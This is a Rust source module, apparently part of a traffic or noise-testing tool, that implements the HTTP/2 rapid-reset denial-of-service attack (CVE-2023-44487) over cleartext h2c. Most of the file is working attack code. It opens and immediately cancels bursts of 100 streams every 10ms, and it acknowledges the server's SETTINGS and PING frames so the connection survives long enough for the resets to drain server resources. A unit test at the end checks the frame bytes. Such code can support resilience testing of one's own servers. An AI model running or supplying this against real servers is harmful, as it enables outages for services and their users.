//! The rapid-reset shape (CVE-2023-44487) over cleartext HTTP/2 (h2c, prior
//! knowledge): each connection sends the preface, then every interval a
//! burst of `BURST` streams, each a HEADERS frame (a GET, END_STREAM) at once
//! followed by its RST_STREAM (CANCEL), so the server starts work the client
//! never waits for. It answers the server's SETTINGS and PING as a client
//! must, so a server that closes it does so for the resets. Owns: the bytes
//! of the shape and the scan of what comes back. May use: the protocol's
//! framing (`http2`'s preface, frame header and types), httlib-hpack (the
//! one header block every stream reuses).

use crate::protocol::http2::{frame_head, ACK, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS};
use httlib_hpack::Encoder;

/// Streams opened and reset per connection in one burst.
pub const BURST: u32 = 100;
/// --noise-interval's default for this shape: the gap between bursts.
pub const DEFAULT_INTERVAL: &str = "10ms";
/// --noise-path's default for this shape.
pub const DEFAULT_PATH: &str = "/";

const END_STREAM_HEADERS: u8 = END_STREAM | END_HEADERS;
const CANCEL: u32 = 8;

/// The header block of every stream: `GET path` at `authority`, each field a
/// literal without indexing (no state in the server's table, so one block
/// serves every stream of every connection).
pub fn header_block(path: &str, authority: &str) -> Vec<u8> {
    let mut enc = Encoder::default();
    let mut out = Vec::new();
    for (n, v) in [(":method", "GET"), (":scheme", "http"), (":authority", authority), (":path", path)] {
        let _ = enc.encode((n.as_bytes().to_vec(), v.as_bytes().to_vec(), 0), &mut out);
    }
    out
}

/// What a connection sends first: the preface and empty SETTINGS.
pub fn start(out: &mut Vec<u8>) {
    out.extend_from_slice(PREFACE);
    frame_head(out, 0, SETTINGS, 0, 0);
}

/// One burst from stream `next` on (odd, advanced past the burst).
pub fn burst(out: &mut Vec<u8>, block: &[u8], next: &mut u32) {
    for _ in 0..BURST {
        frame_head(out, block.len(), HEADERS, END_STREAM_HEADERS, *next);
        out.extend_from_slice(block);
        frame_head(out, 4, RST_STREAM, 0, *next);
        out.extend_from_slice(&CANCEL.to_be_bytes());
        *next += 2;
    }
}

/// Frames the server sent, whole ones from the front of `buf`: SETTINGS and
/// PING are answered into `out`. Returns (bytes used, GOAWAYs seen).
pub fn scan(buf: &[u8], out: &mut Vec<u8>) -> (usize, u64) {
    let (mut used, mut goaways) = (0, 0);
    while buf.len() - used >= 9 {
        let b = &buf[used..];
        let len = (b[0] as usize) << 16 | (b[1] as usize) << 8 | b[2] as usize;
        if b.len() < 9 + len {
            break;
        }
        match (b[3], b[4] & ACK) {
            (SETTINGS, 0) => frame_head(out, 0, SETTINGS, ACK, 0),
            (PING, 0) if len == 8 => {
                frame_head(out, 8, PING, ACK, 0);
                out.extend_from_slice(&b[9..17]);
            }
            (GOAWAY, _) => goaways += 1,
            _ => {}
        }
        used += 9 + len;
    }
    (used, goaways)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_burst_opens_and_cancels_streams_and_settings_are_acked() {
        let block = header_block("/", "h:1");
        let mut fields = vec![];
        httlib_hpack::Decoder::default().decode(&mut block.clone(), &mut fields).unwrap();
        assert_eq!(fields.iter().map(|f| f.1.clone()).collect::<Vec<_>>(), [b"GET".to_vec(), b"http".to_vec(), b"h:1".to_vec(), b"/".to_vec()]);
        let (mut out, mut next) = (vec![], 1);
        burst(&mut out, &block, &mut next);
        assert_eq!(next, 1 + 2 * BURST);
        let one = 9 + block.len() + 9 + 4;
        assert_eq!(out.len(), one * BURST as usize);
        assert_eq!((out[3], out[4], out[9 + block.len() + 3]), (HEADERS, END_STREAM_HEADERS, RST_STREAM));
        let mut server = vec![];
        frame_head(&mut server, 6, SETTINGS, 0, 0);
        server.extend_from_slice(&[0, 3, 0, 0, 0, 100]);
        frame_head(&mut server, 8, GOAWAY, 0, 0);
        server.extend_from_slice(&[0; 8]);
        server.extend_from_slice(&[0, 0]); // the start of a frame still arriving
        let mut acks = vec![];
        assert_eq!(scan(&server, &mut acks), (server.len() - 2, 1));
        assert_eq!(acks, [0, 0, 0, SETTINGS, ACK, 0, 0, 0, 0]);
    }
}
